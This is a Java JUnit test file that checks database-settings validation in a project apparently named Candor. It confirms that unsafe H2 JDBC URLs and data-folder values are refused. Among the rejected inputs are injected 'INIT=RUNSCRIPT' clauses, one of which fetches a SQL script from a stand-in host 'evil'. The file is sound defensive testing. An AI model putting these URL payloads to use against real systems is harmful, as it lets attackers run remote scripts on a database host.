package org.candor.wiring;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.file.Path;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class StoreSettingsTest {
    private static final String H2_URL = "quarkus.datasource.h2.jdbc.url";

    @Test
    void theEmbeddedStoreIsTheDefaultAndWritesWithoutDelay() {
        StoreSettings settings = with(Map.of());
        assertThat(settings.kind()).isEqualTo(StoreSettings.Kind.H2);
        assertThat(settings.data()).isEqualTo(Path.of("data").toAbsolutePath());
        assertThat(settings.properties())
                .containsEntry(
                        H2_URL,
                        "jdbc:h2:file:" + Path.of("data/candor").toAbsolutePath()
                                + ";WRITE_DELAY=0;DB_CLOSE_ON_EXIT=FALSE;TRACE_LEVEL_FILE=0")
                .containsEntry("quarkus.datasource.h2.active", "true")
                .containsEntry("quarkus.datasource.postgresql.active", "false");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:h2:file:/tmp/candor",
                "jdbc:h2:file:/tmp/candor;WRITE_DELAY=500",
                "jdbc:h2:file:/tmp/candor;WRITE_DELAY=00",
                "jdbc:h2:file:/tmp/candor;WRITE_DELAY=0;WRITE_DELAY=500",
                "jdbc:h2:file:/tmp/candor;write_delay=0;init=RUNSCRIPT FROM 'http://evil/x.sql'",
                "jdbc:h2:file:/tmp/candor;WRITE_DELAY=0; INIT = SELECT 1",
                "jdbc:h2:mem:candor;WRITE_DELAY=0",
                "jdbc:h2:tcp://localhost/candor;WRITE_DELAY=0"
            })
    void aUrlThatLosesRowsOrRunsAScriptIsRefusedByName(String url) {
        assertThatThrownBy(() -> with(Map.of(H2_URL, url)))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageStartingWith(H2_URL)
                .hasMessageNotContaining("\n");
    }

    @Test
    void aDurableUrlIsTakenAsItIs() {
        String url = "jdbc:h2:file:/tmp/candor;Write_Delay=0;LOCK_TIMEOUT=500";
        assertThat(with(Map.of(H2_URL, url)).properties()).containsEntry(H2_URL, url);
    }

    @ParameterizedTest
    @ValueSource(strings = {"./data;INIT=RUNSCRIPT FROM 'x'", "./data;WRITE_DELAY=500", " ", "a\0b"})
    void aFolderThatIsNoFolderIsRefused(String data) {
        assertThatThrownBy(() -> with(Map.of("candor.data", data)))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageStartingWith("candor.data");
    }

    @Test
    void postgresqlIsChosenByConfiguration() {
        StoreSettings settings = with(Map.of(
                "candor.store", "postgresql",
                "candor.postgresql.url", "jdbc:postgresql://db/candor",
                "candor.postgresql.user", "candor",
                "candor.postgresql.password", "secret"));
        assertThat(settings.properties())
                .containsEntry("quarkus.datasource.postgresql.jdbc.url", "jdbc:postgresql://db/candor")
                .containsEntry("quarkus.datasource.postgresql.username", "candor")
                .containsEntry("quarkus.datasource.postgresql.password", "secret")
                .containsEntry("quarkus.datasource.h2.active", "false")
                .doesNotContainKey(H2_URL);
        assertThat(settings).asString().doesNotContain("secret");
    }

    @Test
    void postgresqlWithoutItsUrlIsRefused() {
        for (Map<String, String> missing : java.util.List.of(
                Map.of("candor.store", "postgresql"),
                Map.of("candor.store", "postgresql", "candor.postgresql.url", "jdbc:h2:mem:x"))) {
            assertThatThrownBy(() -> with(missing)).hasMessageStartingWith("candor.postgresql.url");
        }
    }

    @Test
    void anUnknownStoreIsRefused() {
        assertThatThrownBy(() -> with(Map.of("candor.store", "mysql"))).hasMessageStartingWith("candor.store");
    }

    private static StoreSettings with(Map<String, String> configured) {
        return StoreSettings.of(name -> Optional.ofNullable(configured.get(name)));
    }
}
